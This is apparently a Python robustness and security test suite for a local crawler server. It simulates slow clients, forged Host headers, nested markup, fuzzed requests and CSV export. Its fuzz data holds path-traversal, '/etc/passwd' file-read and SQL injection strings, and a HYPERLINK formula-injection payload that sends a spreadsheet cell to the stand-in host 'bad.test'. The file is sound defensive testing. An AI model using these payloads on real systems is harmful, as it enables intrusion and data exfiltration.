"""The service under hostile clients, hostile pages, and a disk that refuses writes for a while."""

import contextlib
import json
import re
import resource
import socket
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import quote
from urllib.request import Request, urlopen

from tests.fakeweb import Site
from tests.fakeweb.sites import content
from tests.faults.arena import Arena, Command, check, page_of, scenario, site_of_pages, wait_until

_HALF_A_BODY = (
    b"POST /api/geoparse HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 1000\r\n\r\n{"
)
_HALF_A_HEAD = b"GET /api/site HTTP/1.1\r\nHost: loc"
_POLYGON = '{"type":"Polygon","coordinates":[[[0,0],[%s,1],[1,%s],[0,0]]]}'
_NUMBERS = (
    "1" + "0" * 400, "1" + "0" * 5000, "1e999", "-1e400", "NaN", "-Infinity", "nan", "-inf", "-1",
    "-0", "9223372036854775808", "1e308", "0x1", "1_0", "\u0663", "+1", "1.", ".5", "1e-999",
)  # fmt: skip
_TEXTS = (
    "", " ", "\0", "\u2028", "\ud7ff", "\u202e", "%", "../../../../etc/passwd", "/dev/zero",
    "a" * 30_000, "(" * 5000, "[" * 50_000, '"' * 999, "\u0301" * 3000, "*", "a:b:c", "1,2,3,4,5",
    "http://[::1", "file:///etc/passwd", "\x1b]0;x\x07", "' OR 1=1 --", "1,1,1e400", "nan,nan,nan",
    "-180,-91,180,91",
)  # fmt: skip
_QUESTIONS = 500  # of each campaign
_FORMULA = '=HYPERLINK("http://bad.test/?"&A1,"x")'


@contextlib.contextmanager
def serving(arena: Arena, *folders: str, **settings: Any) -> Iterator[tuple[Command, int]]:
    """`geoscout serve` on a port of its own."""
    words = [str(arena.at(folder)) for folder in folders]
    command = arena.start("serve", *words, "--port", "0", **settings)
    found = wait_until(lambda: re.search(r"http://[^:]+:(\d+)/", command.text()), 60 * arena.slower)
    match = re.search(r"http://[^:]+:(\d+)/", command.text())
    check(found and match, f"it does not serve: {command.last_line()}")
    assert match is not None
    try:
        yield command, int(match[1])
    finally:
        command.kill()


def ask(
    port: int, path: str, seconds: float = 20, body: bytes | None = None, **headers: str
) -> tuple[int, bytes]:
    """Status and body; 0 where no answer came in time."""
    request = Request(f"http://127.0.0.1:{port}{path}", body, headers=headers)
    try:
        with urlopen(request, timeout=seconds) as answer:
            return answer.status, answer.read()
    except HTTPError as error:
        with contextlib.suppress(OSError):  # it closes when what we send is too long
            return error.code, error.read()
        return error.code, b""
    except OSError as error:
        return 0, str(error).encode()


def ask_json(port: int, path: str) -> dict[str, Any]:
    """An answer that must come."""
    status, body = ask(port, path)
    check(status == 200, f"{path}: status {status}: {body[:200]!r}")
    found: dict[str, Any] = json.loads(body)
    return found


def _crawled(arena: Arena, sites: dict[str, Site]) -> None:
    with arena.web(sites) as web:
        arena.crawl_to_the_end("out", map(web.url, sites), delay_seconds=0.01)


@scenario("Requests that are half sent keep nobody out", seconds=30)
def half_sent_requests(arena: Arena) -> str:
    """100 bodies and 200 heads that do not come, while others ask."""
    _crawled(arena, {"good.test": site_of_pages(5)})
    with serving(arena, "out") as (_, port), contextlib.ExitStack() as opened:
        bodies = [_connected(opened, port, _HALF_A_BODY) for _ in range(100)]
        heads = [_connected(opened, port, _HALF_A_HEAD) for _ in range(200)]
        time.sleep(1)
        statuses = [ask(port, "/api/site")[0] for _ in range(10)]
        check(statuses == [200] * 10, f"others got {statuses}")
        time.sleep(24)
        left = sum(map(_is_open, [*bodies, *heads]))
        check(left == 0, f"{left} of 300 connections are still open after 25 s")
    return "others were answered; all 300 connections were closed within 25 s"


def _connected(opened: contextlib.ExitStack, port: int, data: bytes) -> socket.socket:
    one = opened.enter_context(socket.create_connection(("127.0.0.1", port), timeout=5))
    one.sendall(data)
    return one


def _is_open(one: socket.socket) -> bool:
    one.setblocking(False)
    with contextlib.suppress(OSError):
        try:
            while one.recv(4096):
                pass
        except BlockingIOError:
            return True
    return False


@scenario("Only names of this machine are answered without a token", seconds=15)
def foreign_hosts(arena: Arena) -> str:
    """Host fields of other names, of names below localhost, with odd ports and brackets."""
    _crawled(arena, {"good.test": site_of_pages(2)})
    refused = (
        "evil.test", "a.localhost", "localhost.evil.test", "localhost:80:evil", "localhost:x",
        "127.0.0.1.evil.test", "127.0.0.1@evil.test", "[::1]evil", "2130706433", "0x7f.1",
        "8.8.8.8", "0.0.0.0", "[::ffff:8.8.8.8]", "", "localhost evil",
    )  # fmt: skip
    allowed = ("localhost", "LOCALHOST:1", "127.0.0.1", "127.9.9.9:80", "[::1]", "[::1]:80")
    with serving(arena, "out") as (_, port):
        wrong = {host: ask(port, "/api/site", Host=host)[0] for host in refused}
        right = {host: ask(port, "/api/site", Host=host)[0] for host in allowed}
    let_in = [host for host, status in wrong.items() if status not in (400, 421)]
    kept_out = [host for host, status in right.items() if status != 200]
    check(not let_in, f"answered to {let_in}")
    check(not kept_out, f"refused to {kept_out}")
    return f"{len(refused)} names refused, {len(allowed)} answered"


@scenario("A copy of hostile markup is answered, and the server ends when told", seconds=25)
def nested_copies(arena: Arena) -> str:
    """Copies and facts of pages of deeply nested markup, eight at a time, then SIGTERM."""
    bodies = {
        "divs": b"<div>" * 700_000, "fonts": b"<p><font size=1>" * 200_000,
        "tables": b"<table><tr><td>" * 200_000,
    }  # fmt: skip
    sites = {f"{name}.test": Site(content(page_of(name) + body)) for name, body in bodies.items()}
    with arena.web(sites) as web:
        urls = [web.url(host) for host in sites]
        arena.crawl_for(60, "out", urls)
    with serving(arena, "out") as (command, port), ThreadPoolExecutor(8) as pool:
        begin = time.monotonic()
        paths = [f"/api/{what}?url={quote(url)}" for what in ("copy", "page") for url in urls] * 2
        answers = [pool.submit(ask, port, path, 60 * arena.slower) for path in paths]
        time.sleep(0.5)
        light = ask(port, "/api/status")[0]
        statuses = [answer.result()[0] for answer in answers]
        took = time.monotonic() - begin
        stopped = command.stop(15 * arena.slower)
    check(light == 200, f"meanwhile the status was answered with {light}")
    check(
        0 not in statuses, f"{statuses.count(0)} of {len(paths)} answers did not come: {statuses}"
    )
    return (
        f"{len(paths)} requests in {took:.1f} s, statuses"
        f" {sorted(set(statuses))}; SIGTERM obeyed in {stopped:.1f} s"
    )


@scenario("serve follows the crawl again after a failed write", seconds=45)
def follows_again(arena: Arena) -> str:
    """The process may not write to files for a while; then it may again."""
    sites = {f"good{n}.test": site_of_pages(300) for n in range(8)}
    with arena.web(sites) as web:
        crawl = arena.crawl("out", map(web.url, sites), delay_seconds=0.3)
        ready = wait_until((arena.at("out") / "crawl.sqlite").exists, 30 * arena.slower)
        check(ready, "the crawl did not begin")
        time.sleep(4)
        with serving(arena, "out") as (command, port):
            wait_until(lambda: _found(port) > 0, 30 * arena.slower)
            pid = command.process.pid
            resource.prlimit(pid, resource.RLIMIT_FSIZE, (2000, resource.RLIM_INFINITY))
            time.sleep(8)
            told = ask_json(port, "/api/status")
            without = _found(port)
            resource.prlimit(pid, resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY,) * 2)
            visits = ask_json(port, "/api/status")["pages"]
            followed = wait_until(lambda: _found(port) >= visits, 30 * arena.slower)
            found = _found(port)
        crawl.stop(20 * arena.slower)
    check(followed, f"search finds {found} of {visits} pages 30 s after writing was possible again")
    trouble = [key for key, value in told.items() if "index" in key and value]
    return f"found {without} without writing, {found} of {visits} after; status told {trouble}"


def _found(port: int) -> int:
    status, body = ask(port, "/api/search?q=shop&facets=false")
    return int(json.loads(body).get("total", 0)) if status == 200 else 0


def _odd_value(arena: Arena) -> str:
    chance = arena.chance
    number = chance.choice(_NUMBERS)
    return chance.choice((number, chance.choice(_TEXTS), _POLYGON % (number, 1), f"1,{number},5"))


def _odd_question(arena: Arena, described: dict[str, Any]) -> tuple[str, bytes | None]:
    """A path, and a body where one is posted: as described, but for one or two odd values."""
    path, kinds = arena.chance.choice(sorted(described["paths"].items()))
    if "get" not in kinds:
        odd = arena.chance.choice((f'"{_odd_value(arena)[:9000]}"', _odd_value(arena)))
        names = ("text", "region", "seed", "crawl", "host", "more", "contact", "max_pages")
        members = ",".join(f'"{n}":{odd if n != "region" else f"[{odd}]"}' for n in names)
        return path, arena.chance.choice((f"{{{members}}}", odd, "[" * 20_000)).encode()
    every = {
        one["name"]: one for one in kinds["get"].get("parameters", []) if one["name"] != "crawl"
    }
    given = {name: one["example"] for name, one in every.items() if "example" in one}
    given |= {"url": "http://good.test/"} if "url" in every else {}
    for name in arena.chance.sample(sorted(every), min(len(every), arena.chance.choice((1, 1, 2)))):
        given[name] = _odd_value(arena)
    for name in re.findall(r"{(\w+)}", path):
        path = path.replace(f"{{{name}}}", quote(str(given.pop(name, 1)), safe=""))
    query = "&".join(f"{name}={quote(str(value), safe='')}" for name, value in given.items())
    return f"{path}?{query}", None


@scenario("No request is a server error", seconds=40)
def odd_questions(arena: Arena) -> str:
    """Numbers of 400 digits, areas that cannot be, half texts and depths, at every endpoint."""
    _crawled(arena, {"good.test": site_of_pages(5)})
    with serving(arena, "out") as (command, port):
        described = ask_json(port, "/api/openapi.json")
        key = re.search(r"key=([\w-]+)", command.text())
        fields = {"Content-Type": "application/json", "X-Geoscout-Key": key[1] if key else ""}
        counts: Counter[int] = Counter()
        for _ in range(_QUESTIONS):
            path, body = _odd_question(arena, described)
            if "/events" in path or "/control/crawls" in path or "/resume" in path:
                continue  # which go on for long
            status, answer = ask(port, path, 30 * arena.slower, body, **fields)
            counts[status] += 1
            what = f"{path:.300} {body or b''!r:.300}"
            check(status in (503, *range(200, 500)), f"status {status} for {what}: {answer!r:.200}")
        check(not command.has_traceback(), f"a traceback: {command.last_line()}")
        check(ask(port, "/api/site")[0] == 200, "it does not answer any more")
        stopped = command.stop(15 * arena.slower)
    told = ", ".join(f"{number} x {status}" for status, number in sorted(counts.items()))
    return f"{told}; SIGTERM obeyed in {stopped:.1f} s"


@scenario("Spreadsheets run nothing of exported CSV, in any locale", seconds=12)
def formulas_in_csv(arena: Arena) -> str:
    """Titles and addresses that are formulas, at the beginning and after separators."""
    titles = [f"{before}{_FORMULA}" for before in ("", " ", "\t", "a;", "a; ", "a\t", "a\n", '"')]
    titles += ["@SUM(1)", "+1", "-1", "＝1", "a;+1"]
    pages = [page_of(title.replace("<", "")) for title in titles]
    sites = {f"t{n}.test": Site(content(body)) for n, body in enumerate(pages)}
    _crawled(arena, sites)
    risky = []
    for what in ("pages", "addresses", "links", "visits"):
        out = arena.folder / f"{what}.csv"
        words = ("--what", what, "--format", "csv", "--out", str(out))
        command = arena.run("export", str(arena.at("out")), *words)
        check(command.status == 0, f"export ended with {command.last_line()}")
        risky += cells_that_run(out)
    check(not risky, f"{len(risky)} cells, such as {risky[:2]}")
    return f"{len(titles)} titles in four tables: no cell begins as a formula"


def cells_that_run(file: Path) -> list[str]:
    """Cells as a spreadsheet of any locale may divide them that begin as a formula."""
    text = file.read_text(encoding="utf-8")
    cells = [cell.strip(' "') for cell in re.split(r"[,;\t\r\n]", text)]
    return [cell for cell in cells if re.match(r"[=@＝＠]|[+-](?!\d+(\.\d+)?$)", cell)]
